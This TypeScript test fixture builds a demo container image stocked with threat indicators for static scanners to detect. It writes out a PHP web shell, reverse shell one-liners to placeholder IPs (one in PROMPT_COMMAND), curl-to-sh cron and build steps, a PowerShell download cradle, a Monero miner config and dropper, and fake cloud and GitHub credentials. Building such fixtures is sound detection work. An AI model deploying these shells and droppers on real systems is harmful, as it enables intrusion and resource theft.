/**
 * A demo image that carries the indicators static threat detection looks for, all harmless:
 * nothing here runs, mines, connects or steals. Pool names, wallets and keys are made up (the
 * wallet has the right shape and no owner; the AWS key id is random and never was a key). The
 * EICAR test string is assembled at run time so this source file is not itself "detected".
 */
import { deflateRawSync, gzipSync } from 'node:zlib';
import zstd from 'zstd-napi';
import type { ImageSpec } from '../fixtures/builder.js';

const OS_RELEASE = 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n';

/** The EICAR anti-virus test file, from its two halves. */
export function eicar(): string {
  return ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
}

/** 95 characters, starting with 4, in Monero's base58 alphabet: the shape, not a wallet. */
const WALLET = `4${'8'}${'AbCdEfGhJkLmNpQrStUvWxYz123456789'.repeat(3).slice(0, 93)}`;

const MINER_CONFIG = JSON.stringify(
  {
    autosave: true,
    cpu: { enabled: true, 'huge-pages': true, priority: null },
    'donate-level': 1,
    pools: [
      {
        algo: 'rx/0',
        coin: 'monero',
        url: 'stratum+tcp://pool.demo-mining.test:3333',
        user: WALLET,
        pass: 'x',
        nicehash: false,
        keepalive: true,
      },
    ],
  },
  null,
  2,
);

const MINER_START = `#!/bin/sh
# demo: what a miner launcher looks like (the binary does not exist)
./kworkerd --donate-level 1 -o stratum+tcp://pool.demo-mining.test:3333 -u ${WALLET} -a rx/0 -B
`;

/** A dropper that keeps the miner's config gzip-compressed and base64-encoded inside itself. */
const ENCODED_DROPPER = `#!/bin/sh
# demo: a config hidden as base64 of gzip, written out at run time
echo ${gzipSync(MINER_CONFIG).toString('base64')} | base64 -d | gunzip > /tmp/.c.json
`;

const WEBSHELL = `<?php
// demo: the classic shape of a PHP web shell
if (isset($_POST['c'])) { echo '<pre>'; system($_POST['c']); echo '</pre>'; }
@eval(base64_decode($_REQUEST['p']));
?>
`;

const REVERSE_SHELL = `#!/bin/bash
# demo: a reverse shell one-liner (points at a documentation address)
bash -i >& /dev/tcp/203.0.113.50/4444 0>&1
`;

const CRON = `# demo: a cron job that fetches and runs a script every minute
* * * * * root curl -fsSL http://update.demo-mining.test/s.sh | sh
`;

const AUTHORIZED_KEYS =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoDemoDemoDemoDemoDemoDemoDemoDemoDemoDe attacker@demo\n';

const POWERSHELL = `# demo: a PowerShell download cradle
powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
`;

// Random characters in the shape of an AWS key pair (never issued by AWS).
const AWS_ID = 'AKIA' + 'QX7Z3KD5V2NWT6RB';
const AWS_SECRET = 'q8Vd2Lk7' + 'Zr4Xp1Nm6Tb9Wc3Hs5Jf0Yg2Ke7Qa4Uo';

/** A tiny zip holding one stored member: a jar that carries the miner launcher inside. */
function jarWith(name: string, body: string): Buffer {
  const data = Buffer.from(body);
  const compressed = deflateRawSync(data);
  const crc = crc32(data);
  const nameBytes = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(0, 6);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(compressed.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(compressed.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localLen = local.length + nameBytes.length + compressed.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(localLen, 16);
  return Buffer.concat([local, nameBytes, compressed, central, nameBytes, end]);
}

function crc32(buf: Buffer): number {
  let c = ~0;
  for (const b of buf) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
}

/** The image: a base, an app layer full of indicators, and a layer that deletes the miner. */
export function threatDemoImage(): ImageSpec {
  return {
    layers: [
      {
        createdBy: '/bin/sh -c #(nop) ADD file:rootfs.tar.gz in / ',
        files: [
          { path: 'etc/os-release', content: OS_RELEASE },
          { path: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\n' },
          { path: 'bin/sh', content: '#!/bin/true\n', mode: 0o755 },
          { path: 'tmp', type: 'dir', mode: 0o1777 },
        ],
      },
      {
        createdBy:
          '/bin/sh -c curl -fsSL http://get.demo-mining.test/install.sh | sh && chmod +x /opt/.cache/kworkerd',
        files: [
          { path: 'opt/.cache/config.json', content: MINER_CONFIG },
          { path: 'opt/.cache/start.sh', content: MINER_START, mode: 0o755 },
          {
            path: 'opt/.cache/run.b64',
            content: Buffer.from(MINER_START).toString('base64') + '\n',
          },
          { path: 'var/www/html/uploads/img.php', content: WEBSHELL },
          { path: 'usr/local/bin/update', content: REVERSE_SHELL, mode: 0o755 },
          { path: 'etc/cron.d/update', content: CRON },
          { path: 'etc/ld.so.preload', content: '/usr/local/lib/libprocesshider.so\n' },
          { path: 'root/.ssh/authorized_keys', content: AUTHORIZED_KEYS },
          { path: 'opt/tools/a.ps1', content: POWERSHELL },
          { path: 'opt/tools/test-av.txt', content: eicar() },
          { path: 'opt/app/lib/helper.jar', content: jarWith('scripts/start.sh', MINER_START) },
          // A Spring Boot jar whose configuration carries a database password.
          {
            path: 'opt/app/app.jar',
            content: jarWith(
              'BOOT-INF/classes/application.properties',
              'spring.datasource.url=jdbc:postgresql://db:5432/app\nspring.datasource.password=Dm0Pw7xQ2kLz9R\n',
            ),
          },
          { path: 'opt/.cache/boot.sh', content: ENCODED_DROPPER, mode: 0o755 },
          { path: 'opt/.cache/settings.dat', content: zstd.compress(Buffer.from(MINER_CONFIG)) },
          {
            path: 'root/.aws/credentials',
            content: `[default]\naws_access_key_id = ${AWS_ID}\naws_secret_access_key = ${AWS_SECRET}\n`,
          },
        ],
      },
      {
        createdBy: '/bin/sh -c rm -f /opt/.cache/start.sh',
        whiteouts: ['opt/.cache/start.sh'],
      },
    ],
    config: {
      Entrypoint: ['/bin/sh', '-c', 'git clone http://git.demo-mining.test/x.git /x && make -C /x && /x/run'],
      Env: [
        'PATH=/usr/local/bin:/usr/bin:/bin',
        `GITHUB_TOKEN=ghp_${'R4nd0mD3m0T0k3nN0tR3aL'}${'x7Yq2Lp9Kd4'}`,
        // Every interactive shell in the container calls home.
        'PROMPT_COMMAND=bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      ],
      ExposedPorts: { '3333/tcp': {}, '22/tcp': {} },
    },
  };
}
